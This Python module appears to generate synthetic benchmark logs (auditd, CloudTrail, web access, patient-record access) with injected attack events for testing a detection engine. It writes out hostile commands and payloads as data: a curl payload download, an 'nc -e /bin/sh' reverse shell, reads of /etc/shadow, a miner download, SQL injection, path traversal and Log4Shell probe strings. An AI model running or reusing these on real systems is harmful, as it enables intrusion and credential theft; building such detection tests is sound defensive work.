"""Logs that the engine was not tuned on: Linux audit, AWS CloudTrail, web access, look-ups in a patient record."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from random import Random

import orjson

from bench.corpora.windows import Maker

START = 1_791_000_000
COMMANDS = (
    ("/usr/bin/ls", ("ls", "-la", "/var/log")), ("/usr/bin/rsync", ("rsync", "-a", "/srv/{hex8}", "/backup/")),
    ("/usr/sbin/logrotate", ("logrotate", "/etc/logrotate.conf")), ("/usr/bin/git", ("git", "fetch", "--all")),
    ("/usr/bin/python3", ("python3", "/opt/jobb/innlesing.py", "--fil", "{hex8}.xml")),
    ("/usr/bin/psql", ("psql", "-c", "select {number}")), ("/usr/bin/systemctl", ("systemctl", "status", "dicom")),
)  # fmt: skip
ATTACKS = (
    ("/usr/bin/curl", ("curl", "-s", "http://{address}/{hex8}.sh", "-o", "/tmp/{hex8}")),
    ("/usr/bin/chattr", ("chattr", "-i", "/etc/shadow")), ("/usr/bin/nc", ("nc", "-e", "/bin/sh", "{address}", "4444")),
    ("/usr/bin/base64", ("base64", "-d", "/tmp/{hex8}")), ("/usr/bin/cat", ("cat", "/etc/shadow")),
    ("/usr/bin/wget", ("wget", "http://{address}/xmrig-{number}.tar.gz")),
)  # fmt: skip


def auditd(count: int, seed: int, attacks: float) -> Iterator[bytes]:
    """Yield lines of audit.log: of each run of a command SYSCALL, EXECVE, CWD, PATH and PROCTITLE, as the kernel joins them."""
    make = Maker(seed)
    for number in range(0, count, 5):
        program, words = make.chance.choice(ATTACKS if make.chance.random() < attacks else COMMANDS)
        filled = [make.text(word) for word in words]
        stamp = f"msg=audit({START + number // 40}.{number % 1000:03}:{900_000 + number // 5}):"
        pid = make.chance.randrange(1000, 60_000)
        listed = " ".join(f'a{place}="{word}"' for place, word in enumerate(filled))
        title = "\0".join(filled).encode().hex().upper()
        yield (
            f"type=SYSCALL {stamp} arch=c000003e syscall=59 success=yes exit=0 a0=55d0c8 a1=55d0c9 a2=55d0ca a3=8 "
            f"items=2 ppid={pid - 1} pid={pid} auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 "
            f'sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="{words[0]}" exe="{program}" subj=unconfined key="kommando"'
        ).encode()
        yield f"type=EXECVE {stamp} argc={len(filled)} {listed}".encode()
        yield f'type=CWD {stamp} cwd="/home/drift"'.encode()
        yield (
            f'type=PATH {stamp} item=0 name="{program}" inode={pid * 7} dev=fd:00 mode=0100755 ouid=0 ogid=0 '
            "rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"
        ).encode()
        yield f"type=PROCTITLE {stamp} proctitle={title}".encode()


CALLS = (
    ("s3.amazonaws.com", "GetObject"), ("s3.amazonaws.com", "PutObject"), ("sts.amazonaws.com", "AssumeRole"),
    ("ec2.amazonaws.com", "DescribeInstances"), ("kms.amazonaws.com", "Decrypt"), ("logs.amazonaws.com", "PutLogEvents"),
)  # fmt: skip
RARE_CALLS = (
    ("cloudtrail.amazonaws.com", "StopLogging"), ("cloudtrail.amazonaws.com", "DeleteTrail"),
    ("iam.amazonaws.com", "CreateAccessKey"), ("iam.amazonaws.com", "AttachUserPolicy"),
    ("guardduty.amazonaws.com", "DeleteDetector"), ("ec2.amazonaws.com", "ModifySnapshotAttribute"),
    ("signin.amazonaws.com", "ConsoleLogin"), ("s3.amazonaws.com", "PutBucketPolicy"),
)  # fmt: skip


def cloudtrail(count: int, seed: int, attacks: float) -> Iterator[bytes]:
    """Yield events of CloudTrail, one a line, as a subscription delivers them."""
    make = Maker(seed)
    for _ in range(count):
        source, name = make.chance.choice(RARE_CALLS if make.chance.random() < attacks else CALLS)
        created, _ = make.moment()
        who = make.text("innlesing-{number}")
        yield orjson.dumps({
            "eventVersion": "1.09",
            "userIdentity": {
                "type": "AssumedRole", "principalId": f"AROA3XFRBF535EXAMPLE:{who}", "accountId": "123456789012",
                "arn": f"arn:aws:sts::123456789012:assumed-role/drift/{who}", "accessKeyId": "ASIA3XFRBF53EXAMPLE",
                "sessionContext": {
                    "sessionIssuer": {"type": "Role", "userName": "drift", "arn": "arn:aws:iam::123456789012:role/drift"},
                    "attributes": {"creationDate": created[:19] + "Z", "mfaAuthenticated": "false"},
                },
            },
            "eventTime": created[:19] + "Z", "eventSource": source, "eventName": name, "awsRegion": "eu-north-1",
            "sourceIPAddress": make.text("{address}"), "userAgent": "aws-cli/2.15.30 Python/3.11.8 Linux/5.10",
            "requestParameters": {"bucketName": "lyngvik-arkiv", "key": make.text("dicom/{hex8}/{hex10}.dcm")},
            "responseElements": None, "requestID": make.text("{hex10}"), "eventID": make.guid()[1:-1].lower(),
            "readOnly": name.startswith(("Get", "Describe")), "eventType": "AwsApiCall", "managementEvent": True,
            "recipientAccountId": "123456789012", "eventCategory": "Management",
            "tlsDetails": {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256"},
        })  # fmt: skip


PAGES = ("/", "/time/bestill", "/static/app.{hex8}.js", "/api/ledige?dag={number}", "/bilder/{hex8}.webp", "/kontakt")
PROBES = (
    "/?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20{number}", "/../../../../etc/passwd",
    "/wp-admin/setup-config.php?step={number}", "/cgi-bin/.%2e/.%2e/bin/sh", "/shell.jsp?cmd=whoami&n={hex8}",
    "/${{jndi:ldap://{address}/{hex8}}}", "/.git/config", "/actuator/env",
)  # fmt: skip
AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 Version/18.0 Mobile/15E148 Safari/604.1",
)
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")


def web(count: int, seed: int, attacks: float) -> Iterator[bytes]:
    """Yield lines of a web server's access log in the combined format."""
    make = Maker(seed)
    for number in range(count):
        is_probe = make.chance.random() < attacks
        page = make.text(make.chance.choice(PROBES if is_probe else PAGES))
        agent = "sqlmap/1.8.9#stable (https://sqlmap.org)" if is_probe and number % 2 else make.chance.choice(AGENTS)
        seconds = number // 20 % 86_400
        clock = f"{seconds // 3600:02}:{seconds // 60 % 60:02}:{seconds % 60:02}"
        yield (
            f"{make.text('{address}')} - - [{number // 1_728_000 % 28 + 1:02}/{MONTHS[9]}/2026:{clock} +0200] "
            f'"GET {page} HTTP/1.1" {404 if is_probe and number % 3 else 200} {make.chance.randrange(200, 90_000)} '
            f'"https://time.lyngvik.example/" "{agent}"'
        ).encode()


ROLES = ("lege", "sykepleier", "helsesekretær", "tannpleier", "LEVERANDØR – drift")


def health(count: int, seed: int, attacks: float) -> Iterator[bytes]:
    """Yield look-ups in a patient record; patients are pseudonyms, and everyone is made up."""
    make = Maker(seed)
    for _ in range(count):
        yield orjson.dumps(_look_up(make, make.chance, is_odd=make.chance.random() < attacks))


def _look_up(make: Maker, chance: Random, *, is_odd: bool) -> dict[str, object]:
    created, _ = make.moment()
    return {
        "@timestamp": created, "event.dataset": "epj.access",
        "event.action": "export" if is_odd and chance.random() < 0.3 else "read", "event.outcome": "success",
        "user.name": f"bruker{chance.randrange(900)}", "user.roles": [chance.choice(ROLES[:4] if not is_odd else ROLES)],
        "source.ip": f"10.20.1.{chance.randrange(10, 60)}" if not is_odd else make.text("{address}"),
        "host.name": f"LV-BEH{chance.randrange(1, 30):02}", "organization.id": "000000001",
        "helse.actor.type": "human", "helse.actor.acute_unit": chance.random() < 0.1,
        "helse.patient.pseud": f"p-{chance.getrandbits(32):08x}",
        "helse.patient.relation": [chance.choice(("self", "colleague", "family") if is_odd else ("appointment", "admission", "flr"))],
        "helse.access.basis": "BLÅLYS" if is_odd and chance.random() < 0.3 else "TIMEAVTALE",
        "helse.access.explicit": is_odd, "helse.block.hit": False,
        "helse.access.object": chance.choice(("timebok", "journalnotat", "epikrise", "labsvar", "legemidler")),
        "trace.id": make.text("{hex10}{hex10}"),
    }  # fmt: skip


OTHERS: dict[str, Callable[[int, int, float], Iterator[bytes]]] = {
    "auditd": auditd, "cloudtrail": cloudtrail, "web": web, "health": health,
}  # fmt: skip
